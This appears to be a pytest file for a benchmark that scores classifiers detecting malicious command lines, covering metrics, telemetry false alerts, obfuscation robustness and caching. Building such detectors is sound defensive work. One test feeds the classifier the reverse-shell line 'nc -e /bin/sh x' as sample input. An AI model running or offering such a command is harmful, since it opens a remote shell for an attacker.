import json
import sys
from base64 import b64encode

import classifiers
import numpy as np
import pyarrow as pa
import pyarrow.parquet as pq
import pytest
from _classifier_cache import Cache
from _classifier_folds import Corpus, Training
from _classifier_metrics import Ranked, by_source, figures, threshold_at
from _classifier_models import MODELS, _wrapper
from _classifier_robustness import Respelt, drops, respelt
from _classifier_scores import Extra, score_all
from _classifier_tables import house_rows
from _classifier_telemetry import Telemetry, beside, false_alerts, recorded
from _labelled_lines import FOLDS
from _small_pools import small_lexicon
from hypothesis import given
from hypothesis import strategies as st

from cmdclf.classify import auc, fpr_at_tpr, tpr_at_fpr
from cmdclf.errors import CmdclfError
from cmdclf.lexicon.wrappers import peel

# Metrics


@given(
    st.lists(st.tuples(st.booleans(), st.integers(-3, 3), st.integers(0, 3)), min_size=2, max_size=40),
)
def test_weighted_figures_are_those_of_the_repeated_rows(rows):
    malicious, scores, weights = (np.array(c) for c in zip(*rows, strict=True))
    y, s = malicious.repeat(weights), scores.repeat(weights).astype(float)
    found = Ranked(malicious, scores.astype(float)).measured(weights.astype(float))
    if not y.any() or y.all():
        assert np.isnan(found).all()
        return
    expected = [auc(y, s), *(tpr_at_fpr(y, s, fpr) for fpr in (1e-2, 1e-3, 1e-4)), fpr_at_tpr(y, s, 0.9)]
    assert found == pytest.approx(expected)


def test_a_rate_that_the_test_cannot_resolve_has_a_reason_and_no_number():
    malicious = np.arange(1200) % 12 == 0
    found = figures(malicious, np.random.default_rng(0).random(1200), np.arange(1200) // 3, 20)
    assert found["TPR at FPR 0.01"][1] <= found["TPR at FPR 0.01"][0] <= found["TPR at FPR 0.01"][2]
    assert found["TPR at FPR 0.001"] is None
    assert found["unresolved"]["TPR at FPR 0.001"] == "needs at least 10,000 benign rows, has 1,100"


@given(st.lists(st.integers(0, 9), min_size=1, max_size=50), st.sampled_from([0.0, 0.01, 0.1, 0.5, 1.0]))
def test_a_threshold_lets_no_more_benign_lines_through_than_allowed(scores, fpr):
    values = np.array(scores, float)
    assert (values >= threshold_at(values, fpr)).mean() <= fpr + 1e-9


def test_sources_are_measured_at_the_threshold_of_all(protocol):
    pool = protocol.pool
    keep = np.ones(len(pool), bool)
    pool = pool.take(np.arange(len(pool)).repeat(6))
    scores = pool.malicious + 0.01 * np.arange(len(pool)) / len(pool)
    found = by_source(pool, keep.repeat(6), scores, 0.5, 10)
    assert found["malicious: malicious0"]["rate"] == [1.0, 1.0, 1.0]
    assert found["benign: benign0"]["rate"] == [0.0, 0.0, 0.0]
    assert found["malicious: malicious0"]["platforms"] == {"linux": 48}


# Telemetry


def test_recorded_benign_lines_stand_beside_the_judged_ones_each_scored_once():
    kept = Telemetry(
        "a", "", Corpus(["x", "y", "z"], np.array(["linux"] * 3, object)), np.ones(3, np.int64), benign=True
    )
    other = Telemetry("b", "", Corpus(["x"], np.array(["linux"], object)), np.ones(1, np.int64))
    extra = {"a": np.array([[1.0, 2.0, 3.0], [4.0, 5.0, 6.0]]), "b": np.array([[9.0], [9.0]])}
    malicious, scores, group = beside(
        [kept, other], extra, np.array([True, False]), np.array([7.0, 8.0]), np.array(["g", "h"])
    )
    assert malicious.tolist() == [True, False, False, False, False]
    assert scores.tolist() == [7.0, 8.0, 1.0, 5.0, 3.0]
    assert len(set(group.tolist())) == 5


def test_alerts_count_events_and_not_lines():
    telemetry = Telemetry("t", "", Corpus(["a", "b", "c"], np.array(["linux"] * 3)), np.array([1, 99, 900]))
    found = false_alerts(telemetry, np.array([[1.0, 0.0, 0.0], [1.0, 1.0, 0.0]]), 0.5)
    assert (found["per_100k"], found["range"], found["lines"]) == (5050.0, [100.0, 10000.0], 1.5)


def test_captures_of_attacks_are_no_benign_telemetry(tmp_path):
    keys = ("process_command_line", "platform", "source", "path", "count", "user")
    rows = [
        ("a", "windows", "x/y", "host.pkl", 2, "HOST$"),
        ("a", "windows", "x/y", "host.pkl", 3, "NT AUTHORITY\\SYSTEM"),
        ("a", "windows", "x/y", "host.pkl", 7, "HOST\\person"),
        ("p", "windows", "x/y", "host.pkl", 1, None),
        ("l", "linux", "x/y", "host.pkl", 1, "HOST$"),
        ("b", "windows", "OTRF/Security-Datasets", "host.pkl", 1, "HOST$"),
        ("c", "windows", "x/y", "d/mde_proc_cs1.csv", 1, "HOST$"),
    ]
    table = pa.Table.from_pylist([dict(zip(keys, row, strict=True)) for row in rows])
    pq.write_table(table, tmp_path / "telemetry_otrf.parquet")
    found, missing = recorded(tmp_path, None)
    assert [(t.name, t.corpus.text, t.events.tolist()) for t in found] == [("telemetry_otrf", ["a", "p"], [5, 0])]
    assert false_alerts(found[0], np.ones((FOLDS, 2)), 0.5)["distinct"] == 1
    assert missing == ["false alerts on telemetry_linux: there is no telemetry_linux.parquet"]
    pq.write_table(pa.table({"command_line": ["a"]}), tmp_path / "telemetry_linux.parquet")
    with pytest.raises(CmdclfError, match="column platform and label and count is missing"):
        recorded(tmp_path, None)


# Obfuscation


def test_respelt_lines_differ_from_theirs_and_keep_label_and_platform(protocol):
    lines = respelt(protocol, 4)
    assert len(lines.corpus) == len(lines.row) == len(lines.way) > 50
    assert all(text != protocol.pool.text[row] for text, row in zip(lines.corpus.text, lines.row, strict=True))
    assert protocol.keep[lines.row].all()
    assert {lines.ways[i][0] for i in set(lines.way.tolist())} == {"linux"}
    assert {kind for _, kind, _ in lines.ways} == {
        "never trained on",
        "never trained on, second set",
        "never trained on, third set",
        "training's own",
    }


def test_points_lost_are_those_of_the_same_lines_before_and_after(protocol):
    bad = np.flatnonzero(protocol.pool.malicious)[:10]
    good = np.flatnonzero(~protocol.pool.malicious)[:4]
    row = np.concatenate([bad, good])
    lines = Respelt(Corpus([f"x{i}" for i in row], protocol.pool.platform[row]), row, np.zeros(14, np.int64),
                    [("linux", "never trained on", "w"), ("macos", "never trained on", "none")])  # fmt: skip
    before = np.zeros(len(protocol.pool))
    before[bad[:8]] = 1
    after = np.array([1] * 5 + [0] * 5 + [1, 0, 0, 0])
    found = drops(lines, protocol, before, after.astype(float), 0.5, 20)
    way = found["ways"][0]
    assert (way["n"], way["before"], way["after"], way["drop"]) == (10, 0.8, 0.5, 0.3)
    assert (way["n_benign"], way["alerts_before"], way["alerts_after"]) == (4, 0.0, 0.25)
    assert found["ways"][1]["before"] is None
    assert found["mean"]["never trained on, linux"]["drop"][0] == 0.3
    assert "never trained on, macos" not in found["mean"]


# Models


def test_kept_scores_and_models_are_those_of_the_first_run(protocol, tmp_path):
    cache = Cache(tmp_path / "cache")
    lines = Corpus(["nc -e /bin/sh x", "ls"], np.array(["linux", "linux"]))
    every, one = Extra(lines, np.array([-1, -1])), Extra(lines, np.array([2, 3]))
    names = ["rules", "grams"]
    first = score_all(protocol, {name: MODELS[name] for name in names}, {"every": every}, cache)
    again = score_all(protocol, {name: MODELS[name] for name in names}, {"every": every, "one": one}, cache)
    for name in names:
        assert np.array_equal(first[name].pool, again[name].pool, equal_nan=True)
        assert np.isnan(first[name].pool[~protocol.keep]).all()
        assert not np.isnan(first[name].pool[protocol.keep]).any()
        assert again[name].extra["one"][2, 0] == pytest.approx(again[name].extra["every"][2, 0], abs=1e-5)
        assert np.isnan(again[name].extra["one"][2, 1])


def test_a_file_of_the_cache_that_was_cut_off_is_made_again(tmp_path):
    cache = Cache(tmp_path)
    cache.put("a", x=np.arange(3))
    assert cache.arrays("a")["x"].tolist() == [0, 1, 2]
    path = next(tmp_path.iterdir())
    path.write_bytes(path.read_bytes()[:20])
    assert cache.arrays("a") is None
    assert cache.arrays("b") is None
    assert Cache(None).arrays("a") is None


def test_the_floor_reads_no_word(protocol):
    batch, malicious, groups = protocol.training(0, Training())
    model = MODELS["floor"].make().fit(batch, malicious, groups)
    lines = ["abcd efgh 'x'", "wxyz qrst 'y'", "sh -c abcd efgh", "sh -c wxyz qrst"]
    scores = model.scores(Corpus(lines, np.array(["linux"] * 4)).all())
    assert scores[0] == scores[1]
    assert scores[2] == scores[3]
    encoded = [f"powershell -enc {b64encode(x.encode('utf-16-le')).decode()}" for x in ("abcd efgh", "wxyz qrst")]
    assert {_wrapper(x, (peel(x) or ("", x))[1]) for x in encoded} == {"powershell, encoded"}
    assert _wrapper('powershell -nop -Command "& {Get-Date}"', "Get-Date") == 'powershell -nop -command "& {'
    assert _wrapper("bash run.sh", "bash run.sh") == "sh, script"
    assert _wrapper("tar czf a", "tar czf a") == ""


# The whole


def test_the_benchmark_prints_its_tables_and_writes_the_shared_form(data, tmp_path, monkeypatch, capsys):
    small = small_lexicon(tmp_path / "lexicon")
    monkeypatch.setattr(classifiers.Lexicon, "load", lambda: small)
    out, table = tmp_path / "out.json", tmp_path / "out.md"
    monkeypatch.setattr(sys, "argv", ["classifiers.py", "--data", str(data), "--quick", "--models", "rules", "grams",
                                      "--json", str(out), "--markdown", str(table)])  # fmt: skip
    assert classifiers.main() == 0
    printed = capsys.readouterr().out
    assert "there is no verdicts_dev.parquet" in printed
    assert "there are no rows for Sigma's rules" in printed
    assert "TPR at FPR 0.01 is not given where benign lines are too few" in printed
    content = json.loads(out.read_text())
    assert set(content) == {"name", "machine", "rows", "memory_mb", "notes", "detail"}
    assert content["rows"] == house_rows(content["detail"], "grams")
    assert {row["peer_name"] for row in content["rows"]} == {"rules"}
    assert content["detail"]["grams"]["robust"]["mean"]
    assert "| grams |" in table.read_text()


def test_a_folder_without_pools_is_named(tmp_path, monkeypatch, capsys):
    monkeypatch.setattr(sys, "argv", ["classifiers.py", "--data", str(tmp_path), "--quick"])
    assert classifiers.main() == 2
    assert "malicious_dev.parquet: no such file" in capsys.readouterr().err
